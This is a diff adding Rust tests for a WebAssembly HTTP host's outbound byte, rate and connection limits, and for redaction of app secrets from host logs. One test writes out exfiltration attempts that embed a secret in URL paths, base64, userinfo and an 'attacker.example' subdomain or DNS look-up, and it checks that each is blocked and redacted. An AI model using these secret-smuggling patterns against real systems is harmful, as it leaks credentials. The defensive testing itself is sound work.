@@ -2,7 +2,8 @@
 
 use std::time::Instant;
 
-use tests::{Elsewhere, Host, Request, guest};
+use rustix::process::Signal;
+use tests::{Elsewhere, Host, Request, eventually, guest};
 
 use super::{grant, kinds, serving, target, tries};
 
@@ -106,6 +107,102 @@ fn bytes_are_counted_in_both_directions_and_over_all_requests_of_a_call() {
     server.until_alone();
 }
 
+#[test]
+fn all_that_goes_over_a_connection_is_counted_whatever_it_is_part_of() {
+    let server = Elsewhere::http();
+    let limits = ["outbound_sent_size=16KiB", "outbound_received_size=16KiB", "response_header_size=64KiB"];
+    let host = serving(&server, &kinds(), |host| limits.iter().fold(host, |host, limit| host.limit(limit)));
+    for (app, _) in kinds() {
+        assert_eq!(
+            tries(&host, app, &format!("fields,{},8", server.url("/hello"))),
+            "200 hello from elsewhere",
+            "{app}"
+        );
+        let before = server.asked().len();
+        let said = tries(&host, app, &format!("fields,{},32", server.url("/hello")));
+        assert_eq!(said, "error ErrorCode::HttpRequestBodySize(Some(16384))", "{app}");
+        assert_eq!(server.asked().len(), before, "{app}: no whole head has arrived");
+        assert_eq!(tries(&host, app, &format!("get,{}", server.url("/wide-head?8"))), "200", "{app}");
+        for path in ["/wide-head?32", "/interim"] {
+            let said = tries(&host, app, &format!("get,{}", server.url(path)));
+            assert_eq!(said, "error ErrorCode::HttpResponseBodySize(Some(16384))", "{app} {path}");
+        }
+        host.log_contains("the call sends more than limits.outbound_sent_size = 16384");
+        host.log_contains("the call gets more than limits.outbound_received_size = 16384");
+    }
+    server.until_alone();
+}
+
+#[test]
+fn heads_go_no_faster_than_the_rate_either() {
+    let server = Elsewhere::http();
+    let budget = format!("{}[budget]\noutbound_rate = '1KiB'\n", grant(&[server.url("")]));
+    let host = serving(&server, &kinds(), |host| host.config(&budget).limit("outbound_time=300ms"));
+    assert_eq!(
+        tries(&host, "p2", &format!("fields,{},8", server.url("/hello"))),
+        "error ErrorCode::HttpResponseTimeout"
+    );
+    assert_eq!(tries(&host, "wsgi", &format!("get,{}", server.url("/hello"))), "error ErrorCode::HttpResponseTimeout");
+    server.until_alone();
+}
+
+#[test]
+fn a_call_has_what_it_may_send_in_an_instance_that_is_never_without_calls() {
+    let server = Elsewhere::http();
+    let destinations = [server.url("")];
+    let host = Host::start(|host| {
+        let sidecar = format!("{}instances = 'reuse'\n", super::ask(&destinations));
+        let host = host.config(&grant(&destinations)).limit("outbound_sent_size=64KiB");
+        host.app("p3", guest("http-p3")).sidecar("p3", &sidecar)
+    });
+    let mut holding = host.connect();
+    holding.send(&Request::get(&target("p3", &format!("read,{}", server.url("/begin")))).to_bytes());
+    host.log_contains("the response has begun");
+    for _ in 0..5 {
+        assert_eq!(tries(&host, "p3", &format!("send,{},60000", server.url("/count"))), "200 60000");
+    }
+    // It may use what the other one does not, and what others before it did not have is gone.
+    let said = tries(&host, "p3", &format!("send,{},140000", server.url("/count")));
+    assert!(said.starts_with("error ErrorCode::HttpRequestBodySize"), "{said}");
+    drop(holding);
+    server.until_alone();
+}
+
+#[test]
+fn no_secret_of_an_app_is_in_what_the_host_says_of_its_requests() {
+    let server = Elsewhere::http();
+    let port = server.port();
+    let destinations = [server.url("")];
+    let host = Host::start(|host| {
+        std::fs::write(host.folder().join("hush"), "hush-hush-4711").expect("the folder is ours");
+        let config = format!("{}[grant.secrets]\nHUSH = {{ file = 'hush' }}\n", grant(&destinations));
+        let host = host.config(&config).limit("outbound_time=300ms");
+        let sidecar = format!("{}secrets = ['HUSH']\n", super::ask(&destinations));
+        kinds().into_iter().fold(host, |host, (name, wasm)| host.app(name, wasm).sidecar(name, &sidecar))
+    });
+    let secret = "hush-hush-4711";
+    for (app, _) in kinds() {
+        for url in [
+            server.url(&format!("/{secret}/silent")),
+            server.url("/aHVzaC1odXNoLTQ3MTE/silent"),
+            format!("http://user:{secret}@127.0.0.1:{port}/"),
+            format!("http://{secret}.attacker.example/"),
+            format!("http://127.0.0.1:1/{secret}"),
+        ] {
+            let said = tries(&host, app, &format!("get,{url}"));
+            assert!(said.starts_with("error ErrorCode::"), "{app} {url}: {said}");
+        }
+        tries(&host, app, &format!("look-up,{secret}.attacker.example"));
+        host.log_contains(&format!(
+            "ended an outgoing request (GET http://127.0.0.1:{port}): more than limits.outbound_time"
+        ));
+        host.log_contains(&format!("refused an outgoing request (GET http://127.0.0.1:{port}): its target is not"));
+        host.log_contains("(GET http://(the secret HUSH).attacker.example)");
+    }
+    let is_told = |event: &tests::Event| event.message().contains("hush-hush") || event.message().contains("aHVzaC");
+    assert_eq!(host.log().all(is_told).iter().map(|event| event.message().to_owned()).collect::<Vec<_>>(), [""; 0]);
+}
+
 fn sorted(words: &str) -> String {
     let mut words: Vec<&str> = words.split(' ').collect();
     words.sort_unstable();
@@ -149,6 +246,24 @@ fn a_tenants_connections_are_bounded_over_all_its_apps() {
     host.log_contains("the response has begun");
     let said = tries(&host, "p2", &format!("many,{},3", server.url("/begin")));
     assert_eq!(sorted(&said), format!("200 200 {refused}"));
+    drop(holding);
+    server.until_alone();
+}
+
+#[test]
+fn connections_that_are_open_count_when_the_budget_changes() {
+    let server = Elsewhere::http();
+    let budget = |connections| format!("{}[budget]\noutbound_connections = {connections}\n", grant(&[server.url("")]));
+    let host = serving(&server, &[("p2", guest("http-p2"))], |host| host.config(&budget(3)));
+    let mut holding = host.connect();
+    holding.send(&Request::get(&target("p2", &format!("read,{}", server.url("/begin")))).to_bytes());
+    host.log_contains("the response has begun");
+    host.write_config(&budget(2));
+    host.signal(Signal::HUP);
+    let refused = "ErrorCode::ConnectionLimitReached";
+    let left = format!("200 {refused} {refused}");
+    let many = format!("many,{},3", server.url("/begin"));
+    eventually("one is left", || (sorted(&tries(&host, "p2", &many)) == left).then_some(()));
     drop(holding);
     server.until_alone();
 }
